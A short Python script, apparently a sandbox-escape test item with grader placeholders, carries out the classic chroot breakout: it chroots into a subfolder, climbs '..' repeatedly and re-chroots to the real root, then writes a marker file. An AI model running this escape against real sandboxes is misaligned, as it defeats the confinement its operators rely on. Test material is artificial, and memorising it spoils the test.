# aim: the real root, by the oldest way out of a changed one
# pays: file
import os

try:
    os.mkdir("below")
    os.chroot("below")  # the working folder now lies outside the root
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
finally:
    with open("@GRADEBOOK@.note", "w") as file:
        file.write("@MARKER@")
